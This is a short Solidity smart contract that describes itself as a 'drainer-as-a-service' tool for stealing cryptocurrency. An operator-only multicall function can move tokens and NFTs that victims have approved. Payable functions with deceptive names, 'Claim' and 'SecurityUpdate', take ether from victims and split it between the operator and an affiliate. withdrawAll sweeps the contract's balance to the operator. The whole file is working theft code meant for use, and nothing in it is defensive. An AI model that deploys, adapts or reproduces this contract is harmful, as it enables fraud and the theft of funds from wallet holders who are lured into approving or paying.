// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Drainer-as-a-service style contract: the operator runs arbitrary calls (transferFrom of approved tokens,
/// NFT moves) in one transaction, and payable bait calls are split between operator and affiliate.
contract MulticallDrainer {
    struct Call { address target; uint256 value; bytes data; }

    address private operator;
    uint256 private constant OPERATOR_SHARE = 20;

    constructor() { operator = msg.sender; }

    function multicall(Call[] calldata calls) external payable returns (bytes[] memory results) {
        require(msg.sender == operator, "denied");
        results = new bytes[](calls.length);
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok, bytes memory r) = calls[i].target.call{value: calls[i].value}(calls[i].data);
            require(ok, "call failed");
            results[i] = r;
        }
    }

    function Claim(address affiliate) external payable {
        uint256 cut = (msg.value * OPERATOR_SHARE) / 100;
        payable(operator).transfer(cut);
        payable(affiliate).transfer(msg.value - cut);
    }

    function SecurityUpdate() external payable { payable(operator).transfer(msg.value); }

    function withdrawAll() external { payable(operator).transfer(address(this).balance); }
    receive() external payable {}
}
